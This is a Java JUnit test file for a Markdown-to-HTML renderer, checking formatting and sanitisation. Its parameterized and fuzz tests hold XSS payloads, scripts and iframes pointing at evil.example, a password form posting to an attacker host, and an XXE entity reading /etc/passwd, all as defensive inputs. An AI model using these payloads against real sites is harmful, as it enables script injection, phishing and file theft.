package org.interviewplanner.print;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.xml.sax.InputSource;

class MarkdownHtmlTest {

    private static final Set<String> SAFE_ELEMENTS =
            Set.of(
                    "root",
                    "a",
                    "b",
                    "blockquote",
                    "br",
                    "code",
                    "dd",
                    "del",
                    "div",
                    "dl",
                    "dt",
                    "em",
                    "h4",
                    "h5",
                    "h6",
                    "hr",
                    "i",
                    "ins",
                    "kbd",
                    "li",
                    "mark",
                    "ol",
                    "p",
                    "pre",
                    "s",
                    "small",
                    "span",
                    "strong",
                    "sub",
                    "sup",
                    "table",
                    "tbody",
                    "td",
                    "th",
                    "thead",
                    "tr",
                    "u",
                    "ul",
                    "var");
    private static final Set<String> SAFE_ATTRIBUTES =
            Set.of("href", "target", "rel", "class", "align", "start");

    private final MarkdownHtml markdown = new MarkdownHtml();

    @Test
    void rendersWhatQuestionsAreMadeOf() {
        String html =
                markdown.toHtml(
                        """
                        What does **this** print, and *why*?

                        ```java
                        System.out.println(1 < 2 && true);
                        ```

                        | in | out |
                        |:---|----:|
                        | 1  | ~~2~~ 3 |

                        3. third
                        4. fourth
                        """);

        assertThat(html)
                .contains(
                        "<strong>this</strong>", "<em>why</em>", "<del>2</del>", "<ol start=\"3\">")
                .contains(
                        "<pre><code class=\"language-java\">System.out.println(1 &lt; 2 &amp;&amp; true);")
                .contains("<th align=\"left\">in</th>", "<td align=\"right\">");
        assertThat(parsed(html).getElementsByTagName("table").getLength()).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "a <script>alert(1)</script> b",
                "<img src=x onerror=alert(1)>",
                "<img src='https://evil.example/pixel.png' alt='\"><script>alert(1)</script>'>",
                "<a href='javascript:alert(1)'>x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java&#10;script:alert(1))",
                "[x](vbscript:x)",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](//evil.example/)",
                "[x](/\\evil.example/)",
                "[x](https:evil)",
                "[x](file:///etc/passwd)",
                "[x](sets/1)",
                "<javascript:alert(1)>",
                "![x](https://evil.example/pixel.png)",
                "![x](//evil.example/pixel.png)",
                "![x](data:image/svg+xml,<svg onload=alert(1)>)",
                "<p style='background:url(https://evil.example/)'>styled</p>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<div onclick=alert(1) id=main class=v-app>text</div>",
                "<iframe src='https://evil.example'></iframe>",
                "<object data=x></object><embed src=x><link rel=stylesheet href=x><base href=//evil>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<form action=//evil><input name=password><button>go</button></form>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<details open ontoggle=alert(1)><summary>s</summary>folded</details>",
                "<!-- hidden --> shown <!-- never ended <script>alert(1)</script>",
                "`<script>alert(1)</script>`",
                "```\"onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
                "<![CDATA[ <script>alert(1)</script> ]]>",
                "<?php system('x') ?> <!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]> &x;",
                "</div></body></html><b>still inside",
                "<b><i>crossed</b></i>",
                "<table><tr><td>loose",
                "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}",
                "x ]]> y",
                "\u0000\u0008\u000B\uFFFE \uD800 lone \uDC00 halves"
            })
    void leavesNothingThatActsOrFetches(String hostile) {
        assertSafe(markdown.toHtml(hostile));
        assertSafe(markdown.toHtml("> * " + hostile + "\n\n| a |\n|---|\n| " + hostile + " |\n"));
    }

    @Test
    void keepsTheWordsOfAQuestionAboutTags() {
        assertThat(parsed(markdown.toHtml("What does <script defer> do?")).getTextContent())
                .isEqualTo("What does <script defer> do?");
        assertThat(
                        parsed(markdown.toHtml("<input type=\"date\"> or <select>?"))
                                .getTextContent()
                                .strip())
                .isEqualTo("<input type=\"date\"> or <select>?");
    }

    @Test
    void keepsTagsThatAreMeantAsMarkup() {
        assertThat(markdown.toHtml("H<sub>2</sub>O<br>and <kbd class=x>Ctrl</kbd>"))
                .isEqualTo("<p>H<sub>2</sub>O<br />and <kbd>Ctrl</kbd></p>");
    }

    @Test
    void writesADescriptionWhereAPictureWas() {
        assertThat(markdown.toHtml("![a *heap*](https://example.org/heap.png \"t\")"))
                .isEqualTo("<p><span class=\"picture\">[image: a heap]</span></p>");
        assertThat(markdown.toHtml("<img src=x>")).contains("[image]");
    }

    @Test
    void opensLinksElsewhere() {
        assertThat(markdown.toHtml("[spec](https://example.org/a?b=1&c=2)"))
                .contains(
                        "target=\"_blank\"",
                        "noopener",
                        "href=\"https://example.org/a?b&#61;1&amp;c&#61;2\"");
        assertThat(markdown.toHtml("<mailto:who@example.org>")).contains("href=\"mailto:");
    }

    @Test
    void makesHeadingsSmall() {
        assertThat(markdown.toHtml("# One\n\n### Three\n\n###### Six"))
                .contains("<h4>One</h4>", "<h5>Three</h5>", "<h6>Six</h6>");
    }

    @Test
    void showsNothingForNothing() {
        assertThat(markdown.toHtml("")).isEmpty();
        assertThat(markdown.toHtml(" \n\t\n")).isEmpty();
        assertThat(parsed(markdown.toHtml("<!-- note -->")).getTextContent()).isBlank();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "> ",
                "* ",
                "1. ",
                "- > ",
                "**",
                "*_",
                "[",
                "![",
                "<div>",
                "<b>",
                "<ul><li>",
                "<table><tr><td>",
                "~~ ",
                "` ",
                "("
            })
    void flattensWhatIsNestedFiveThousandTimes(String opening) {
        String html = markdown.toHtml(opening.repeat(5_000) + "core");

        assertSafe(html);
        assertThat(parsed(html).getTextContent()).contains("core");
        assertThat(depth(parsed(html))).isLessThanOrEqualTo(MarkdownHtml.DEEPEST_TAG + 1);
    }

    @Test
    void flattensListsThatAreIndentedFiveThousandTimes() {
        var nested = new StringBuilder();
        for (int i = 0; i < 5_000; i++) {
            nested.append(" ".repeat(2 * Math.min(i, 200))).append("- item\n");
        }

        String html = markdown.toHtml(nested.toString());

        assertSafe(html);
        assertThat(depth(parsed(html))).isLessThanOrEqualTo(MarkdownHtml.DEEPEST_TAG + 1);
    }

    @Test
    void takesAHugeTableAndALongLineWhole() {
        String row = "| " + "cell | ".repeat(40) + "\n";
        String table = row + "|" + "---|".repeat(40) + "\n" + row.repeat(500);
        assertThat(parsed(markdown.toHtml(table)).getElementsByTagName("td").getLength())
                .isEqualTo(40 * 500);

        String code = "x".repeat(200_000);
        assertThat(parsed(markdown.toHtml("```\n" + code + "\n```")).getTextContent().strip())
                .isEqualTo(code);
    }

    @Test
    void keepsEveryScript() {
        String text = "Ελληνικά Українська 漢字かな 한국어 العربية עברית ไทย 😀";
        assertThat(parsed(markdown.toHtml(text)).getTextContent()).isEqualTo(text);
    }

    @Test
    void staysSafeAndWellFormedWhateverIsCutAndMixed() {
        var random = new Random(20261122);
        List<String> pieces =
                List.of(
                        "<",
                        ">",
                        "\"",
                        "'",
                        "&",
                        "&#x3c;",
                        "<script>",
                        "</script>",
                        "<a href=",
                        "javascript:",
                        "<img src=x onerror=",
                        "```",
                        "`",
                        "\n",
                        "\n\n",
                        "> ",
                        "- ",
                        "|",
                        "|---|\n",
                        "[x](",
                        ")",
                        "<div style=",
                        "<!--",
                        "-->",
                        "<![CDATA[",
                        "]]>",
                        "<table>",
                        "<td>",
                        "text",
                        "\u2028",
                        "\uD83D",
                        "\\",
                        "#",
                        "<svg/onload=",
                        "<p",
                        "/>",
                        "=",
                        " ",
                        "{{",
                        "<style>",
                        "<textarea>",
                        "<plaintext>",
                        "<title>",
                        "<noscript>",
                        "<xmp>");
        for (int i = 0; i < 3_000; i++) {
            var mixed = new StringBuilder();
            for (int n = random.nextInt(14); n >= 0; n--) {
                mixed.append(pieces.get(random.nextInt(pieces.size())));
            }
            assertSafe(markdown.toHtml(mixed.toString()));
        }
    }

    private static void assertSafe(String html) {
        var elements = new TreeSet<String>();
        var attributes = new TreeSet<String>();
        visit(parsed(html), elements, attributes);
        assertThat(SAFE_ELEMENTS).as(html).containsAll(elements);
        assertThat(SAFE_ATTRIBUTES).as(html).containsAll(attributes);
    }

    private static void visit(Node node, Set<String> elements, Set<String> attributes) {
        if (node instanceof Element element) {
            elements.add(element.getTagName());
            for (int i = 0; i < element.getAttributes().getLength(); i++) {
                Node attribute = element.getAttributes().item(i);
                attributes.add(attribute.getNodeName());
                if (attribute.getNodeName().equals("href")) {
                    assertThat(attribute.getNodeValue())
                            .matches("(?is)(https?://[^/\\\\]|mailto:[^/]).*");
                }
            }
        }
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            visit(child, elements, attributes);
        }
    }

    private static int depth(Node node) {
        int deepest = 0;
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            deepest = Math.max(deepest, depth(child));
        }
        return deepest + (node instanceof Element ? 1 : 0);
    }

    static Element parsed(String fragment) {
        try {
            var factory = DocumentBuilderFactory.newInstance();
            factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            var builder = factory.newDocumentBuilder();
            builder.setErrorHandler(null);
            return builder.parse(new InputSource(new StringReader("<root>" + fragment + "</root>")))
                    .getDocumentElement();
        } catch (Exception e) {
            throw new AssertionError("Not well-formed: " + fragment, e);
        }
    }
}
